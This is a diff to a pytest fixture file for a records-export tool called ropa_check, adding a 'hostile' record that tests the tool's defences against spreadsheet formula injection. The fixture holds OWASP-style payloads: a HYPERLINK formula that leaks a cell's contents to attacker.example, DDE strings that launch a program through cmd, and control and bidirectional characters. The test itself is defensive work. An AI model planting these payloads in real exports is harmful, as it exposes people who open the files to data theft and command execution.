@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -12,7 +13,7 @@ import openpyxl
 import pytest
 
 from ropa_check.cli import main
-from ropa_check.export.cells import from_csv
+from ropa_check.export.cells import MAX_CELL, from_csv
 
 ROOT = Path(__file__).resolve().parents[2]
 RECORDS = ROOT / "records"
@@ -89,3 +90,42 @@ def write_record(tmp_path: Path) -> Callable[..., Path]:
         return folder
 
     return write
+
+
+# A hostile record (tests/export/test_hostile.py, test_libreoffice.py): OWASP's formula starts everywhere.
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
+HOSTILE_RECORD = {
+    "organisation": {"controller": {"name": FORMULAS[0], "email": "\u001b[31mred\u0007"}},
+    "recipients": [{"id": "r", "name": FORMULAS[5], "kind": "processor"}],
+    "activities": [
+        {
+            "id": "a",
+            "name": FORMULAS[1],
+            "business_function": FORMULAS[6],
+            "purposes": [{"id": "p", "description": FORMULAS[3]}],
+            "data_subjects": [{"id": "s", "name": FORMULAS[4]}],
+            "data_categories": [
+                {"id": "c", "name": FORMULAS[2], "description": "NUL\u0000 VT\u000b \ufffe \u202eevil"},
+            ],
+            "recipients": ["r"],
+            "retention": {"description": "x" * (MAX_CELL + 10)},
+        }
+    ],
+}
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    # JSON escapes carry what a YAML file could not hold raw: a NUL, a vertical tab, U+FFFE.
+    (folder / "record.json").write_text(json.dumps(HOSTILE_RECORD), encoding="utf-8")
+    return folder
